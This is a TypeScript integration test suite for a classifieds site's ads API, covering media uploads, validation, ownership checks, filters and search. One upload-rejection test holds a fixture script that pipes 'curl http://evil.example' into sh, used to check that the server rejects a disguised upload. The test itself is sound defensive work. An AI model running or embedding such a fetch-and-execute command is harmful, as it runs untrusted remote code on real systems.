@@ -1,0 +1,678 @@
+import { execFileSync } from 'node:child_process';
+import { randomUUID } from 'node:crypto';
+import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import knex, { type Knex } from 'knex';
+import sharp from 'sharp';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { accountStream, type AccountEvent } from '@boli/engine/accounts/account.events';
+import { AD_MESSAGES } from '@boli/engine/ads/ad.messages';
+import { adStream, type AdDetails, type AdEvent } from '@boli/engine/ads/ad.events';
+import type { EventStore } from '@boli/engine/eventStore/eventStore';
+import { createPostgresEventStore } from '@boli/engine/eventStore/postgres/postgresEventStore';
+import { MESSAGES } from '@boli/engine/shared/messages';
+import { waitForProjections } from '@boli/projections';
+import type { AdDetailView, AdView } from '@boli/projections/ads/ads.view';
+import { startApp, type TestApp } from '../../../../ops/src/testing/app.ts';
+import { SessionService } from '../../identity/sessions.ts';
+
+type Body = {
+  data: unknown;
+  error: boolean;
+  msg: string;
+  code?: string;
+  errors?: { field: string; message: string }[];
+};
+type AdList = { ads: AdView[]; page: number; pageSize: number };
+
+let app: TestApp;
+let db: Knex;
+let store: EventStore;
+let mediaDir: string;
+let scratch: string;
+const previousMediaDir = process.env.MEDIA_DIR;
+
+type Member = { userId: string; username: string; token: string };
+
+const minutesFromNow = (minutes: number) => new Date(Date.now() + minutes * 60_000).toISOString();
+
+/** A member straight from account events: verified, with or without an address and a trial. */
+async function member(
+  username: string,
+  { address = true, trial = true }: { address?: boolean; trial?: boolean } = {},
+): Promise<Member> {
+  const userId = randomUUID();
+  const now = minutesFromNow(-10);
+  const events: AccountEvent[] = [
+    {
+      type: 'AccountRegistered',
+      data: {
+        userId,
+        username,
+        email: `${username}@example.in`,
+        phone: '9876543210',
+        phoneCode: '+91',
+        firstname: 'Ravi',
+        lastname: 'Kumar',
+        bidAlias: 'zz-xq-alias',
+        gender: 'Male',
+        dob: '1990-01-15',
+        country: 'India',
+        passwordHash: 'not-a-real-hash',
+        registeredAt: now,
+      },
+    },
+    { type: 'EmailVerified', data: { userId, verifiedAt: now } },
+    { type: 'MobileVerified', data: { userId, phone: '9876543210', verifiedAt: now } },
+  ];
+  if (trial) {
+    events.push({
+      type: 'TrialStarted',
+      data: { userId, startsAt: now, endsAt: minutesFromNow(7 * 24 * 60) },
+    });
+  }
+  if (address) {
+    events.push({
+      type: 'ProfileEdited',
+      data: {
+        userId,
+        editedAt: now,
+        profile: {
+          bnr: '',
+          firstname: 'Ravi',
+          lastname: 'Kumar',
+          bidAlias: 'zz-xq-alias',
+          houseno: '12',
+          street: 'MG Road',
+          city: 'Pune',
+          neighbourHood: 'Camp',
+          district: 'Pune',
+          state: 'Maharashtra',
+          country: 'India',
+          pincode: '411001',
+          education: '',
+        },
+      },
+    });
+  }
+  const { lastPosition } = await store.append(
+    accountStream(userId),
+    events.map((event) => ({ ...event, metadata: { eventId: randomUUID(), now } })),
+    'no-stream',
+  );
+  expect(await waitForProjections(db, ['users', 'entitlements'], lastPosition, 10_000)).toBe(true);
+  const session = await new SessionService(db, app.config.JWT_SECRET).issue(
+    userId,
+    ['member'],
+    new Date(),
+  );
+  return { userId, username, token: session.token };
+}
+
+async function api(
+  path: string,
+  options: { json?: unknown; token?: string; form?: FormData } = {},
+): Promise<{ status: number; body: Body }> {
+  const headers: Record<string, string> = {};
+  let body: string | FormData | undefined = options.form;
+  if (options.json !== undefined) {
+    headers['content-type'] = 'application/json';
+    body = JSON.stringify(options.json);
+  }
+  if (options.token) headers.authorization = `Bearer ${options.token}`;
+  const response = await fetch(`${app.baseUrl}${path}`, {
+    method: body === undefined ? 'GET' : 'POST',
+    headers,
+    body,
+  });
+  const text = await response.text();
+  return { status: response.status, body: (text ? JSON.parse(text) : {}) as Body };
+}
+
+// Media made for the test: real pictures (one carrying EXIF) and a real one-second video.
+let jpeg: Uint8Array;
+let png: Uint8Array;
+let mp4: Uint8Array;
+
+const file = (bytes: Uint8Array, name: string, type: string) => ({ bytes, name, type });
+type Upload = ReturnType<typeof file>;
+const photo1 = () => file(jpeg, 'front.jpg', 'image/jpeg');
+const photo2 = () => file(png, 'inside.png', 'image/png');
+const video = () => file(mp4, 'drive.mp4', 'video/mp4');
+
+const dzire = {
+  itemName: 'Swift Dzire VXi',
+  categoryname: 'Automobiles',
+  subcategory: 'Cars',
+  price: '450000',
+  description: 'Single owner, all services at the dealer.',
+  displayPhone: 'false',
+  make: 'Maruti Suzuki',
+  model: 'Swift Dzire',
+  mileage: '42000',
+  yearOfManufacture: '2018',
+  ownerOrDealer: 'Owner',
+  newOrused: 'Used',
+};
+
+function adForm(fields: Record<string, string>, files: Upload[] = [], stagedIds: string[] = []) {
+  const form = new FormData();
+  for (const [name, value] of Object.entries(fields)) form.append(name, value);
+  for (const id of stagedIds) form.append('stagedId', id);
+  for (const upload of files) {
+    form.append('media', new Blob([upload.bytes], { type: upload.type }), upload.name);
+  }
+  return form;
+}
+
+/** Every file under MEDIA_DIR (the scratch folder included), to prove nothing was left behind. */
+async function mediaFiles(): Promise<string[]> {
+  const entries = await readdir(mediaDir, { recursive: true, withFileTypes: true }).catch(() => []);
+  return entries
+    .filter((entry) => entry.isFile())
+    .map((entry) => join(entry.parentPath, entry.name))
+    .sort();
+}
+
+let ravi: Member;
+let meena: Member;
+let homeless: Member;
+let unsubscribed: Member;
+let posted: AdDetailView;
+
+beforeAll(async () => {
+  mediaDir = await mkdtemp(join(tmpdir(), 'boli-ads-media-'));
+  scratch = await mkdtemp(join(tmpdir(), 'boli-ads-fixtures-'));
+  process.env.MEDIA_DIR = mediaDir;
+  app = await startApp();
+  db = knex({ client: 'pg', connection: app.databaseUrl, pool: { min: 0, max: 4 } });
+  store = createPostgresEventStore({ connectionString: app.databaseUrl });
+  jpeg = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#5f2f9d' } })
+    .withExif({ IFD0: { Copyright: 'secret-camera-owner' } })
+    .jpeg()
+    .toBuffer();
+  png = await sharp({ create: { width: 40, height: 40, channels: 4, background: '#ffcc00' } })
+    .png()
+    .toBuffer();
+  const videoPath = join(scratch, 'drive.mp4');
+  execFileSync('ffmpeg', [
+    '-hide_banner',
+    '-loglevel',
+    'error',
+    '-f',
+    'lavfi',
+    '-i',
+    'testsrc=duration=2:size=160x120:rate=10',
+    '-pix_fmt',
+    'yuv420p',
+    videoPath,
+  ]);
+  mp4 = await readFile(videoPath);
+  [ravi, meena, homeless, unsubscribed] = await Promise.all([
+    member('ravi_k'),
+    member('meena_s'),
+    member('nomad_x', { address: false }),
+    member('free_rider', { trial: false }),
+  ]);
+}, 180_000);
+
+afterAll(async () => {
+  await store?.close();
+  await db?.destroy();
+  await app?.stop();
+  if (previousMediaDir === undefined) delete process.env.MEDIA_DIR;
+  else process.env.MEDIA_DIR = previousMediaDir;
+  await rm(mediaDir, { recursive: true, force: true });
+  await rm(scratch, { recursive: true, force: true });
+});
+
+describe('posting an ad', () => {
+  it('posts an Automobiles ad with two photos and a video', async () => {
+    const { status, body } = await api('/api/posts/', {
+      token: ravi.token,
+      form: adForm(dzire, [photo1(), photo2(), video()]),
+    });
+    expect(body.msg).toBe(MESSAGES.adPosted);
+    expect(status).toBe(200);
+    posted = body.data as AdDetailView;
+    expect(posted).toMatchObject({
+      itemName: 'Swift Dzire VXi',
+      categoryname: 'Automobiles',
+      price: 450_000,
+      currencycode: 'INR',
+      make: 'Maruti Suzuki',
+      mileage: 42_000,
+      yearOfManufacture: 2018,
+      postedBy: ravi.userId,
+      postedByUsername: 'ravi_k',
+      // The ad's address comes from the profile; the owner sees the phone.
+      city: 'Pune',
+      street: 'MG Road',
+      phone: '9876543210',
+      displayPhone: false,
+      bidOpen: true,
+      finalCallMade: false,
+      closedAt: null,
+    });
+    expect(posted.uid).toMatch(/^swift-dzire-vxi-[0-9a-f]{10}$/);
+    expect(posted.gallery.map((item) => item.galleryType)).toEqual(['photos', 'photos', 'videos']);
+    expect(posted.thumbnail).toBe(posted.gallery[0]!.thumbnail);
+  });
+
+  it('serves the media: photos re-encoded without their metadata, the video with a poster', async () => {
+    const [front, inside, drive] = posted.gallery;
+    const served = await fetch(`${app.baseUrl}${front!.url}`);
+    expect(served.headers.get('content-type')).toBe('image/jpeg');
+    const bytes = Buffer.from(await served.arrayBuffer());
+    expect(bytes.includes(Buffer.from('secret-camera-owner'))).toBe(false);
+    expect((await sharp(bytes).metadata()).exif).toBeUndefined();
+    expect(inside!.name).toMatch(/\.jpg$/);
+    const movie = await fetch(`${app.baseUrl}${drive!.url}`);
+    expect(movie.status).toBe(200);
+    expect(movie.headers.get('content-type')).toBe('video/mp4');
+    expect(Buffer.from(await movie.arrayBuffer()).equals(Buffer.from(mp4))).toBe(true);
+    const poster = await fetch(`${app.baseUrl}${drive!.thumbnail}`);
+    expect(poster.headers.get('content-type')).toBe('image/jpeg');
+    const { width, height } = await sharp(Buffer.from(await poster.arrayBuffer())).metadata();
+    expect([width, height]).toEqual([400, 300]);
+  });
+
+  it('answers the ad by id and by uid, hiding the phone from others', async () => {
+    const byId = await api(`/api/posts/post?item_id=${posted._id}`, { token: meena.token });
+    expect(byId.status).toBe(200);
+    expect(byId.body.data).toMatchObject({ _id: posted._id, phone: '', gallery: posted.gallery });
+    const byUid = await api(`/api/posts/postUID?item_uid=${posted.uid}`);
+    expect((byUid.body.data as AdDetailView)._id).toBe(posted._id);
+    expect((await api(`/api/posts/post?item_id=${posted.uid}`)).status).toBe(200);
+    const missing = await api('/api/posts/post?item_id=nothing-here');
+    expect(missing).toMatchObject({ status: 404, body: { msg: 'Ad not found' } });
+  });
+
+  it('takes staged files, uploaded one per request ahead of the form', async () => {
+    const stageForm = new FormData();
+    stageForm.append('file', new Blob([png], { type: 'image/png' }), 'side.png');
+    const staged = await api('/api/gallery/stage', { token: meena.token, form: stageForm });
+    expect(staged.status).toBe(200);
+    const { stagedId, galleryType, thumbnail } = staged.body.data as Record<string, string>;
+    expect(galleryType).toBe('photos');
+    expect((await fetch(`${app.baseUrl}${thumbnail}`)).status).toBe(200);
+    const fields = { ...dzire, itemName: 'Hyundai Creta SX', make: 'Hyundai', model: 'Creta' };
+    // Someone else's staged file is not theirs to post.
+    const stolen = await api('/api/posts/', {
+      token: ravi.token,
+      form: adForm(fields, [], [stagedId!]),
+    });
+    expect(stolen).toMatchObject({ status: 400, body: { msg: AD_MESSAGES.stagedMediaNotFound } });
+    const { status, body } = await api('/api/posts/', {
+      token: meena.token,
+      form: adForm(fields, [photo1()], [stagedId!]),
+    });
+    expect(status).toBe(200);
+    expect((body.data as AdDetailView).gallery).toHaveLength(2);
+    // Used once, it is gone from the staging area.
+    const again = await api('/api/posts/', {
+      token: meena.token,
+      form: adForm(fields, [], [stagedId!]),
+    });
+    expect(again.status).toBe(400);
+  });
+});
+
+describe('a refused post', () => {
+  const refused = async (member: Member, form: FormData) => {
+    const before = await mediaFiles();
+    const answer = await api('/api/posts/', { token: member.token, form });
+    // Nothing it wrote stays behind: no stored media, no scratch file.
+    expect(await mediaFiles()).toEqual(before);
+    return answer;
+  };
+
+  it('refuses a 7th file', async () => {
+    const seven = Array.from({ length: 7 }, (_, i) => file(jpeg, `p${i}.jpg`, 'image/jpeg'));
+    const { status, body } = await refused(ravi, adForm(dzire, seven));
+    expect(status).toBe(400);
+    expect(body.msg).toBe(AD_MESSAGES.tooManyMedia);
+  });
+
+  it('refuses a file over 10 MB', async () => {
+    const big = new Uint8Array(11 * 1024 * 1024);
+    big.set(jpeg.subarray(0, 64));
+    const { status, body } = await refused(
+      ravi,
+      adForm(dzire, [photo1(), file(big, 'huge.jpg', 'image/jpeg')]),
+    );
+    expect(status).toBe(413);
+    expect(body.msg).toBe(AD_MESSAGES.mediaTooLarge);
+  });
+
+  it('refuses a .jpg that is really a script, and a video named as a photo', async () => {
+    const script = new TextEncoder().encode('#!/bin/sh\ncurl http://evil.example | sh\n');
+    const fake = await refused(
+      ravi,
+      adForm(dzire, [photo1(), file(script, 'car.jpg', 'image/jpeg')]),
+    );
+    expect(fake.status).toBe(415);
+    expect(fake.body.msg).toBe(AD_MESSAGES.mediaNotAllowed);
+    const renamed = await refused(ravi, adForm(dzire, [file(mp4, 'car.jpg', 'image/jpeg')]));
+    expect(renamed.status).toBe(415);
+  });
+
+  it('refuses an ad without media', async () => {
+    const { status, body } = await refused(ravi, adForm(dzire));
+    expect(status).toBe(400);
+    expect(body.msg).toBe(AD_MESSAGES.mediaRequired);
+  });
+
+  it('refuses an Automobiles ad without its make, naming the field', async () => {
+    const { make: _make, ...noMake } = dzire;
+    const { status, body } = await refused(ravi, adForm(noMake, [photo1(), video()]));
+    expect(status).toBe(400);
+    expect(body.msg).toBe(AD_MESSAGES.vehicleFieldsRequired);
+    expect(body.errors).toEqual([{ field: 'make', message: AD_MESSAGES.vehicleFieldsRequired }]);
+  });
+
+  it('refuses a Sports ad without its type (Team or Player)', async () => {
+    const team = {
+      itemName: 'Cricket team for tournaments',
+      categoryname: 'Sports',
+      subcategory: 'Cricket',
+      price: '5000',
+      description: 'Weekend matches.',
+    };
+    const { status, body } = await refused(ravi, adForm(team, [photo1()]));
+    expect(status).toBe(400);
+    expect(body.msg).toBe(AD_MESSAGES.sportsTypeRequired);
+    expect(body.errors?.[0]?.field).toBe('type');
+    const ok = await api('/api/posts/', {
+      token: ravi.token,
+      form: adForm({ ...team, type: 'Team' }, [photo1()]),
+    });
+    expect(ok.status).toBe(200);
+  });
+
+  it('refuses a description of 150 characters', async () => {
+    const { status, body } = await refused(
+      ravi,
+      adForm({ ...dzire, description: 'x'.repeat(150) }, [photo1()]),
+    );
+    expect(status).toBe(400);
+    expect(body.msg).toBe(AD_MESSAGES.descriptionTooLong);
+  });
+
+  it('refuses a price that is not a number', async () => {
+    const { status, body } = await refused(ravi, adForm({ ...dzire, price: 'lots' }, [photo1()]));
+    expect(status).toBe(400);
+    expect(body.errors).toEqual([{ field: 'price', message: AD_MESSAGES.invalidPrice }]);
+  });
+
+  it('asks a poster without an address on their profile to fill it', async () => {
+    const { status, body } = await refused(homeless, adForm(dzire, [photo1()]));
+    expect(status).toBe(400);
+    expect(body.msg).toBe('Address Required!! Please fill the address');
+  });
+
+  it('asks a poster without a subscription or trial to subscribe', async () => {
+    const { status, body } = await refused(unsubscribed, adForm(dzire, [photo1()]));
+    expect(status).toBe(403);
+    expect(body).toMatchObject({
+      msg: MESSAGES.pleaseSubscribe,
+      data: { subscribeAt: '/subscription' },
+    });
+  });
+
+  it('needs a token', async () => {
+    expect((await api('/api/posts/', { form: adForm(dzire, [photo1()]) })).status).toBe(401);
+  });
+});
+
+describe('editing an ad', () => {
+  it('is for its owner only', async () => {
+    const other = await api('/api/posts/edit', {
+      token: meena.token,
+      json: { ad_id: posted._id, price: 1 },
+    });
+    expect(other).toMatchObject({ status: 403, body: { msg: AD_MESSAGES.notAdOwner } });
+    const { status, body } = await api('/api/posts/edit', {
+      token: ravi.token,
+      json: { ad_id: posted.uid, price: 425_000.5, description: 'Price reduced.' },
+    });
+    expect(status).toBe(200);
+    expect(body.msg).toBe(MESSAGES.adUpdated);
+    expect(body.data).toMatchObject({ price: 425_000.5, description: 'Price reduced.' });
+  });
+
+  it('is judged by the same rules as a post', async () => {
+    const { status, body } = await api('/api/posts/edit', {
+      token: ravi.token,
+      json: { ad_id: posted._id, description: 'y'.repeat(150) },
+    });
+    expect(status).toBe(400);
+    expect(body.msg).toBe(AD_MESSAGES.descriptionTooLong);
+  });
+});
+
+describe('the gallery', () => {
+  it('lists, adds to, chooses the thumbnail of and removes from an ad’s gallery', async () => {
+    const listed = await api(`/api/gallery/media?item_id=${posted._id}`);
+    expect(listed.body.data).toEqual(posted.gallery);
+
+    const upload = adForm({ item_id: posted._id }, [photo2()]);
+    const byOther = await api('/api/gallery/upload', { token: meena.token, form: upload });
+    expect(byOther.status).toBe(403);
+    const added = await api('/api/gallery/upload', {
+      token: ravi.token,
+      form: adForm({ item_id: posted._id }, [photo2()]),
+    });
+    expect(added.status).toBe(200);
+    const gallery = added.body.data as AdDetailView['gallery'];
+    expect(gallery).toHaveLength(4);
+
+    const video = gallery[2]!;
+    const chosen = await api('/api/gallery/thumbnail', {
+      token: ravi.token,
+      json: { item_id: posted._id, name: video.name },
+    });
+    expect((chosen.body.data as AdDetailView).thumbnail).toBe(video.thumbnail);
+
+    const removed = await api('/api/gallery/remove', {
+      token: ravi.token,
+      json: { item_id: posted._id, name: video.name },
+    });
+    expect(removed.status).toBe(200);
+    const after = removed.body.data as AdDetailView;
+    expect(after.gallery.map((item) => item.name)).not.toContain(video.name);
+    expect(after.thumbnail).toBe(after.gallery[0]!.thumbnail);
+    expect((await fetch(`${app.baseUrl}${video.url}`)).status).toBe(404);
+  });
+
+  it('refuses more than 6 media on an ad, leaving no file behind', async () => {
+    const before = await mediaFiles();
+    const { status } = await api('/api/gallery/upload', {
+      token: ravi.token,
+      form: adForm({ item_id: posted._id }, [photo1(), photo1(), photo1(), photo1()]),
+    });
+    expect(status).toBe(400);
+    expect(await mediaFiles()).toEqual(before);
+  });
+});
+
+// ---------------------------------------------------------------------------------------------
+// Lists, filters and search, over ads appended straight to the log.
+
+const base: AdDetails = {
+  itemName: 'Teak sofa set',
+  categoryname: 'Furniture',
+  subcategory: 'Sofa & Dining',
+  type: null,
+  price: 2_500_000,
+  currencycode: 'INR',
+  description: 'Five seater.',
+  phone: '9123456780',
+  displayPhone: true,
+  houseno: '1',
+  street: 'Beach Road',
+  city: 'Kochi',
+  neighbourHood: 'Fort Kochi',
+  district: 'Ernakulam',
+  pincode: '682001',
+  state: 'Kerala',
+  country: 'India',
+  make: null,
+  model: null,
+  mileage: null,
+  yearOfManufacture: null,
+  ownerOrDealer: null,
+  newOrused: null,
+};
+
+async function appendAd(details: Partial<AdDetails>, minutesAgo: number): Promise<string> {
+  const adId = randomUUID();
+  const postedAt = minutesFromNow(-minutesAgo);
+  const item = {
+    galleryType: 'photos' as const,
+    name: `${adId}.jpg`,
+    thumbnail: `${adId}.thumb.jpg`,
+  };
+  const events: AdEvent[] = [
+    {
+      type: 'AdPosted',
+      data: {
+        ...base,
+        ...details,
+        adId,
+        uid: `seeded-${adId}`,
+        postedBy: 'u-seed',
+        postedByUsername: 'seed',
+        postedAt,
+      },
+    },
+    { type: 'MediaAdded', data: { adId, ...item, addedAt: postedAt } },
+  ];
+  const { lastPosition } = await store.append(
+    adStream(adId),
+    events.map((event) => ({ ...event, metadata: { eventId: randomUUID(), now: postedAt } })),
+    'no-stream',
+  );
+  expect(await waitForProjections(db, ['ads'], lastPosition, 10_000)).toBe(true);
+  return adId;
+}
+
+describe('the ad list', () => {
+  const sofas: string[] = [];
+  let tractor: string;
+  let boat: string;
+
+  beforeAll(async () => {
+    // Posted over the past days, oldest first.
+    for (let i = 0; i < 22; i++) sofas.push(await appendAd({ itemName: `Sofa ${i}` }, 10_000 - i));
+    tractor = await appendAd(
+      {
+        itemName: 'Mahindra 575 DI',
+        categoryname: 'Automobiles',
+        subcategory: 'Tractors',
+        price: 55_000_000,
+        make: 'Mahindra',
+        model: '575 DI',
+        mileage: 1_200,
+        yearOfManufacture: 2016,
+        ownerOrDealer: 'Dealer',
+        newOrused: 'Used',
+        state: 'Punjab',
+        district: 'Ludhiana',
+        neighbourHood: 'Model Town',
+        city: 'Ludhiana',
+      },
+      5_000,
+    );
+    boat = await appendAd(
+      {
+        itemName: 'Houseboat',
+        categoryname: 'Ships Boats',
+        subcategory: 'Houseboats',
+        make: 'Kerala Boats',
+        model: 'Kettuvallam',
+        mileage: 0,
+        yearOfManufacture: 2005,
+        ownerOrDealer: 'Owner',
+        newOrused: 'Used',
+        country: 'Sri Lanka',
+        state: 'Western',
+        district: 'Colombo',
+      },
+      4_000,
+    );
+  }, 120_000);
+
+  const list = async (query: string, token: string | null = ravi.token) => {
+    const path = token ? '/api/posts/filter' : '/api/globalAds';
+    const { status, body } = await api(`${path}?${query}`, token ? { token } : {});
+    expect(status).toBe(200);
+    return body.data as AdList;
+  };
+  const idsOf = (page: AdList) => page.ads.map((ad) => ad._id);
+
+  it('needs a token, while the guests’ list does not', async () => {
+    expect((await api('/api/posts/filter')).status).toBe(401);
+    const guest = await list('', null);
+    expect(guest.ads.length).toBe(20);
+    // A guest sees the phone only where the ad shows it.
+    expect(guest.ads.find((ad) => ad._id === posted._id)?.phone).toBe('');
+    expect(guest.ads.find((ad) => ad._id === boat)?.phone).toBe('9123456780');
+  });
+
+  it('pages 20 ads, newest first, by page or offset', async () => {
+    const first = await list('category=Furniture');
+    expect(first).toMatchObject({ page: 1, pageSize: 20 });
+    expect(idsOf(first)).toEqual([...sofas].reverse().slice(0, 20));
+    const second = await list('category=Furniture&page=2');
+    expect(idsOf(second)).toEqual([sofas[1], sofas[0]]);
+    expect(idsOf(await list('category=Furniture&page=5&offset=21'))).toEqual([sofas[0]]);
+    const empty = await api('/api/posts/filter?category=Furniture&page=3', { token: ravi.token });
+    expect(empty.body).toMatchObject({ msg: MESSAGES.noAdsAvailable, data: { ads: [] } });
+  });
+
+  it('filters by each of section 7’s filters', async () => {
+    expect(idsOf(await list('category=Automobiles&subcategory=Tractors'))).toEqual([tractor]);
+    expect(idsOf(await list('country=Sri%20Lanka'))).toEqual([boat]);
+    expect(
+      idsOf(await list('country=India&state=Punjab&district=Ludhiana&neighbourHood=Model%20Town')),
+    ).toEqual([tractor]);
+    expect(idsOf(await list('category=Automobiles&priceFrom=500000&priceTo=600000'))).toEqual([
+      tractor,
+    ]);
+    const tractors = 'category=Automobiles&subcategory=Tractors';
+    expect(idsOf(await list(`${tractors}&make=Mahindra&model=575%20DI`))).toEqual([tractor]);
+    expect(
+      idsOf(await list(`${tractors}&yearOfManufactureFrom=2015&yearOfManufactureTo=2017`)),
+    ).toEqual([tractor]);
+    expect(idsOf(await list(`${tractors}&yearOfManufactureFrom=2017`))).toEqual([]);
+    expect(idsOf(await list(`${tractors}&mileageFrom=1000&mileageTo=2000`))).toEqual([tractor]);
+    expect(idsOf(await list(`${tractors}&ownerOrDealer=Owner`))).toEqual([]);
+    expect(idsOf(await list('category=Ships%20Boats&ownerOrDealer=Owner'))).toEqual([boat]);
+  });
+
+  it('refuses a filter that is not a number where one is needed', async () => {
+    const { status, body } = await api('/api/globalAds?priceFrom=cheap');
+    expect(status).toBe(400);
+    expect(body.errors?.[0]).toEqual({ field: 'priceFrom', message: AD_MESSAGES.invalidPrice });
+  });
+
+  it('lists My Ads, newest first', async () => {
+    const mine = await list('', ravi.token);
+    expect(mine.ads.length).toBeGreaterThan(0);
+    const { body } = await api('/api/posts/myPosts', { token: ravi.token });
+    const own = (body.data as AdList).ads;
+    expect(own.every((ad) => ad.postedBy === ravi.userId)).toBe(true);
+    expect(own.at(-1)?._id).toBe(posted._id);
+    expect((await api('/api/posts/myPosts')).status).toBe(401);
+  });
+
+  it('finds the posted Swift Dzire when misspelt, for guests too', async () => {
+    const { status, body } = await api('/api/posts/searchAds?search=swfit%20dezire');
+    expect(status).toBe(200);
+    expect((body.data as AdList).ads[0]?._id).toBe(posted._id);
+    const tractors = await api('/api/posts/searchAds?search=mahindra%20tractr&page=1');
+    expect((tractors.body.data as AdList).ads.map((ad) => ad._id)).toEqual([tractor]);
+  });
+});
